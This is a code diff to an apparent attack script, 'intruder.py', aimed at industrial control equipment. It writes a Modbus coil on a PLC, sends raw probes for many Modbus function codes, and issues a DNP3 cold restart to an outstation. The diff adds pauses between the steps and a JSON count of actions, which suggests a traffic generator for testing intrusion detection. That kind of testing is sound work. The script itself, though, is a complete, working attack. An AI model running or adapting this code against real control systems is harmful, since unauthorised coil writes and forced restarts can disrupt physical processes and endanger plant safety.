@@ -1,11 +1,13 @@
 """A station that nobody listed: writes a coil, scans function codes, restarts the outstation.
 
-Usage: intruder.py PLC OUTSTATION
+Usage: intruder.py PLC OUTSTATION PAUSE
 """
 import asyncio
+import json
 import socket
 import struct
 import sys
+import time
 
 from dnp3.application.builder import build_cold_restart_request
 from dnp3.master import DefaultSOEHandler, Master, MasterConfig, MasterTcpRunner
@@ -17,20 +19,20 @@ def write_coil(plc):
     client.connect()
     client.write_coil(3, True, device_id=1)
     client.close()
-    print("intruder: coil 3 written")
 
 
 def scan_functions(plc):
     """Every public function code with an empty body: raw, since no client library sends such requests."""
+    functions = [*range(1, 25), 43, 65, 100]
     with socket.create_connection((plc, 502), timeout=2) as scan:
-        for number, function in enumerate([*range(1, 25), 43, 65, 100]):
+        for number, function in enumerate(functions):
             scan.sendall(struct.pack("!HHHBB", number, 0, 2, 1, function))
             scan.settimeout(0.2)
             try:
                 scan.recv(512)
             except TimeoutError:
                 pass
-    print("intruder: function codes scanned")
+    return len(functions)
 
 
 async def cold_restart(outstation):
@@ -38,9 +40,12 @@ async def cold_restart(outstation):
     async with MasterTcpRunner(master=master, host=outstation, port=20000) as runner:
         await runner.send(build_cold_restart_request(seq=1))
         await asyncio.sleep(1)
-    print("intruder: cold restart sent")
 
 
-write_coil(sys.argv[1])
-scan_functions(sys.argv[1])
-asyncio.run(cold_restart(sys.argv[2]))
+plc, outstation, pause = sys.argv[1], sys.argv[2], float(sys.argv[3])
+write_coil(plc)
+time.sleep(pause)
+scanned = scan_functions(plc)
+time.sleep(pause)
+asyncio.run(cold_restart(outstation))
+print(json.dumps({"coils_written": 1, "functions_scanned": scanned, "cold_restarts": 1}))
